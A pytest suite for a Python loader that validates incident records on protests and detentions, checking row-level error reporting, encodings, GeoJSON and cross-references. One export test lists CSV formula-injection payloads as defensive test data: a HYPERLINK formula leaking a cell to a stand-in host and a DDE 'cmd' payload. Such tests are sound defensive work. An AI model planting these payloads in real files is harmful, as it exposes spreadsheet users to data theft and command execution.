"""Loading and validating native incident files: every bad row reported, none lost."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from geo import schema
from geo.errors import RecordsValidationError
from geo.records import load_records, read_records

HEADER = ",".join(schema.COLUMNS)


def _row(**values) -> str:
    base = {
        "record_id": "ALA-1",
        "date": "2019-06-09",
        "city": "Almaty",
        "event_type": "detention",
        "geo_precision": "1",
        "latitude": "43.25472",
        "longitude": "76.94306",
        "detained_low": "100",
        "count_kind": "incremental",
        "source_urls": "https://example.org/a",
    }
    base.update(values)
    cells = []
    for col in schema.COLUMNS:
        v = str(base.get(col, ""))
        cells.append('"' + v.replace('"', '""') + '"' if ("," in v or '"' in v) else v)
    return ",".join(cells)


def _write(tmp_path, *rows, header=HEADER, name="incidents.csv"):
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def test_good_file_is_normalised(tmp_path):
    path = _write(
        tmp_path,
        _row(),
        _row(
            record_id="KZ-1",
            city="national",
            geo_precision="4",
            latitude="",
            longitude="",
            event_type="official_statement",
            detained_low="700",
            detained_high="700",
            count_kind="cumulative",
            period_start="2019-06-09",
            period_end="2019-06-10",
            date="2019-06-11",
            source_urls="https://a.example/1  https://b.example/2",
        ),
    )
    records = load_records(path)
    assert list(records.columns) == schema.COLUMNS + ["source_file", "source_row"]
    assert records["record_id"].tolist() == ["ALA-1", "KZ-1"]
    assert records["source_row"].tolist() == [2, 3]
    first, second = records.iloc[0], records.iloc[1]
    # period defaults to the date; a statement keeps the days it covers
    assert first["period_start"] == pd.Timestamp("2019-06-09") == first["period_end"]
    assert second["period_start"] == pd.Timestamp("2019-06-09")
    assert second["period_end"] == pd.Timestamp("2019-06-10")
    assert first["latitude"] == pytest.approx(43.25472)
    assert pd.isna(second["latitude"])
    assert first["detained_low"] == 100 and pd.isna(first["detained_high"])
    assert records["detained_low"].dtype == "Int64"
    assert second["source_urls"] == "https://a.example/1 https://b.example/2"


def test_every_problem_is_reported_with_file_row_column_value(tmp_path):
    path = _write(
        tmp_path,
        _row(),
        _row(record_id="ALA-2", date="09/06/2019"),
        _row(record_id="ALA-3", city="Karaganda city", latitude="north"),
        _row(record_id="ALA-1"),  # duplicate id
        _row(record_id="ALA-5", detained_low="300", detained_high="200", source_urls=""),
        _row(record_id="ALA-6", geo_precision="7", event_type="riot", count_kind="daily"),
        _row(record_id="ALA-7", included_in="NOPE", contested_by="ALA-1 GHOST"),
        _row(record_id="ALA-8", detained_low="about 50", time_local="25:00"),
        _row(record_id="ALA-9", latitude="", longitude="76.9"),
    )
    result = read_records(path)
    found = {(p.row, p.column, p.value) for p in result.problems}
    expected = {
        (3, "date", "09/06/2019"),
        (4, "city", "Karaganda city"),
        (4, "latitude", "north"),
        (5, "record_id", "ALA-1"),
        (6, "detained_high", "200"),
        (6, "source_urls", ""),
        (7, "geo_precision", "7"),
        (7, "event_type", "riot"),
        (7, "count_kind", "daily"),
        (8, "included_in", "NOPE"),
        (8, "contested_by", "GHOST"),
        (9, "detained_low", "about 50"),
        (9, "time_local", "25:00"),
        (10, "latitude", " / 76.9"),
    }
    assert expected <= found
    assert all(p.file == str(path) for p in result.problems)
    # the good first row is kept, every bad row is listed as rejected: nothing lost
    assert result.records["record_id"].tolist() == ["ALA-1"]
    assert result.rejected["source_row"].tolist() == [3, 4, 5, 6, 7, 8, 9, 10]
    assert len(result.records) + len(result.rejected) == result.rows_read == 9
    assert "09/06/2019" in result.rejected.loc[0, "problems"]
    message = str(next(p for p in result.problems if p.column == "city"))
    assert message.startswith(f"{path}, row 4, column 'city': value 'Karaganda city': expected one of")
    with pytest.raises(RecordsValidationError) as err:
        load_records(path)
    assert len(err.value.problems) == len(result.problems)


def test_included_in_cycle_is_reported(tmp_path):
    path = _write(
        tmp_path,
        _row(record_id="A", included_in="B"),
        _row(record_id="B", included_in="C"),
        _row(record_id="C", included_in="A"),
        _row(record_id="D", included_in="A"),
    )
    result = read_records(path)
    cyc = [p for p in result.problems if "cycle" in p.expected]
    assert sorted(p.row for p in cyc) == [2, 3, 4]
    assert result.records["record_id"].tolist() == ["D"]


def test_missing_required_column_is_one_file_problem(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("record_id,date,city\nA,2019-06-09,Almaty\n", encoding="utf-8")
    result = read_records(path)
    assert len(result.problems) == 1
    p = result.problems[0]
    assert p.row is None and "event_type" in p.expected and "source_urls" in p.expected
    assert len(result.rejected) == 1 and result.records.empty


def test_too_many_cells_and_blank_rows_are_reported(tmp_path):
    path = _write(tmp_path, _row(), _row(record_id="B") + ",extra,cells", "")
    result = read_records(path)
    rows = sorted({p.row for p in result.problems})
    assert rows == [3, 4]
    assert any(p.value == "extra,cells" for p in result.problems)


def test_bom_and_cyrillic_survive(tmp_path):
    path = tmp_path / "bom.csv"
    body = "\n".join([HEADER, _row(place_name_ru="площадь Астана", place_name_kk="Астана алаңы")])
    path.write_bytes(b"\xef\xbb\xbf" + body.encode("utf-8"))
    records = load_records(path)
    assert records.loc[0, "place_name_kk"] == "Астана алаңы"


def test_non_utf8_file_is_a_clear_file_problem(tmp_path):
    path = tmp_path / "cp1251.csv"
    path.write_bytes(("\n".join([HEADER, _row(place_name_ru="площадь")])).encode("cp1251"))
    result = read_records(path)
    assert len(result.problems) == 1 and "not UTF-8" in result.problems[0].expected


def test_geojson_points_and_wrong_crs(tmp_path):
    feature = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [76.94306, 43.25472]},
        "properties": {
            "record_id": "G1",
            "date": "2019-06-09",
            "city": "Almaty",
            "event_type": "rally",
            "geo_precision": 1,
            "source_urls": "https://example.org/g",
        },
    }
    line = dict(
        feature,
        geometry={"type": "LineString", "coordinates": [[0, 0], [1, 1]]},
        properties=dict(feature["properties"], record_id="G2"),
    )
    doc = {"type": "FeatureCollection", "features": [feature, line]}
    path = tmp_path / "inc.geojson"
    path.write_text(json.dumps(doc), encoding="utf-8")
    result = read_records(path)
    assert result.records["record_id"].tolist() == ["G1"]
    assert result.records.loc[0, "longitude"] == pytest.approx(76.94306)
    assert [(p.row, p.column) for p in result.problems] == [(2, "geometry")]

    doc["crs"] = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}}
    path.write_text(json.dumps(doc), encoding="utf-8")
    result = read_records(path)
    assert result.records.empty and "EPSG::3857" in result.problems[0].expected


def test_missing_file_is_reported_not_raised(tmp_path):
    result = read_records(tmp_path / "nope.csv")
    assert result.records.empty and "file not found" in result.problems[0].expected


def test_included_in_must_cover_area_and_days(tmp_path):
    path = _write(
        tmp_path,
        _row(
            record_id="KZ",
            city="national",
            geo_precision="4",
            latitude="",
            longitude="",
            count_kind="cumulative",
            period_start="2019-06-09",
            period_end="2019-06-10",
        ),
        _row(record_id="NQZ", city="Nur-Sultan", latitude="", longitude=""),
        _row(record_id="IN", included_in="KZ", date="2019-06-10"),
        _row(record_id="LATE", included_in="KZ", date="2019-06-12"),
        _row(record_id="CROSS", included_in="NQZ"),
    )
    result = read_records(path)
    assert [(p.row, p.value) for p in result.problems] == [(6, "NQZ"), (5, "KZ")]
    assert "another city's figure" in result.problems[0].expected
    assert "must cover this record's days" in result.problems[1].expected
    assert result.records["record_id"].tolist() == ["KZ", "NQZ", "IN"]


def test_impossible_dates_and_counts_are_problems_not_crashes(tmp_path):
    path = _write(
        tmp_path,
        _row(record_id="A", date="0001-01-01"),
        _row(record_id="B", detained_low="99999999999999999999999"),
        _row(record_id="C", period_end="2262-05-01"),
        _row(record_id="D", date="2019-02-30"),
    )
    result = read_records(path)
    assert [(p.row, p.column, p.expected) for p in result.problems] == [
        (2, "date", "expected a year between 1900 and 2100"),
        (5, "date", "expected a date as YYYY-MM-DD"),
        (4, "period_end", "expected a year between 1900 and 2100"),
        (3, "detained_low", "expected at most 100,000,000"),
    ]
    assert result.records.empty and len(result.rejected) == 4


def test_references_may_name_existing_records():
    from geo.records import validate_frame

    existing = pd.DataFrame(
        {
            "record_id": ["OLD"],
            "city": ["Almaty"],
            "date": pd.to_datetime(["2019-06-09"]),
            "period_start": pd.to_datetime(["2019-06-09"]),
            "period_end": pd.to_datetime(["2019-06-10"]),
        }
    )
    base = {"date": "2019-06-10", "city": "Almaty", "event_type": "rally", "source_urls": "https://a.example"}
    raw = pd.DataFrame(
        [
            dict(base, record_id="A", included_in="OLD", contested_by="OLD"),
            dict(base, record_id="B", included_in="MISSING"),
        ]
    )
    result = validate_frame(raw, "f.csv", existing=existing)
    assert result.records["record_id"].tolist() == ["A"]
    assert [(p.row, p.column, p.value) for p in result.problems] == [(3, "included_in", "MISSING")]
    assert validate_frame(raw, "f.csv").records.empty


def test_a_count_must_be_written_as_a_whole_number(tmp_path):
    path = _write(
        tmp_path,
        *[_row(record_id=f"R{i}", participants_low=v) for i, v in enumerate(["1e3", "NaN", "inf", "-5", "12.5"])],
        _row(record_id="OK1", participants_low="1 200"),
        _row(record_id="OK2", participants_low="300"),
    )
    result = read_records(path)
    bad = [(p.value, p.column) for p in result.problems]
    assert bad == [(v, "participants_low") for v in ["1e3", "NaN", "inf", "-5", "12.5"]]
    kept = result.records.set_index("record_id")["participants_low"].to_dict()
    assert kept == {"OK1": 1200, "OK2": 300}


def test_an_exported_file_reads_back_as_it_was_written(tmp_path):
    from geo.export import write_records

    records = load_records(_write(tmp_path, _row(record_id="F1", summary="x")))
    hostile = ['=HYPERLINK("http://x/leak?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    for text in hostile:
        out = tmp_path / "export.csv"
        write_records(records.assign(summary=text), out)
        assert "'" + text[0] in out.read_text(encoding="utf-8")  # guarded in the file
        assert load_records(out).loc[0, "summary"] == text  # and read back as it was


def test_keep_ids_apart_prefixes_a_later_datasets_repeated_ids_and_links_only():
    from geo.records import keep_ids_apart

    frame = pd.DataFrame(
        {
            "dataset": ["a", "a", "b", "b", "c"],
            "record_id": ["R1", "R2", "R1", "R3", "R9"],
            "included_in": ["", "R1", "", "R1", ""],
            "contested_by": ["", "", "R3", "", ""],
        }
    )
    out = keep_ids_apart(frame)
    assert out["record_id"].tolist() == ["R1", "R2", "b:R1", "b:R3", "R9"]
    assert out["included_in"].tolist() == ["", "R1", "", "b:R1", ""]  # b's link stays inside b
    assert out["contested_by"].tolist() == ["", "", "b:R3", "", ""]
    assert frame["record_id"].tolist() == ["R1", "R2", "R1", "R3", "R9"]  # the input is left as it was
    one = frame[frame["dataset"] == "a"].assign(record_id=["R1", "R1"])  # one dataset's own repeats: not ours
    assert keep_ids_apart(one) is one
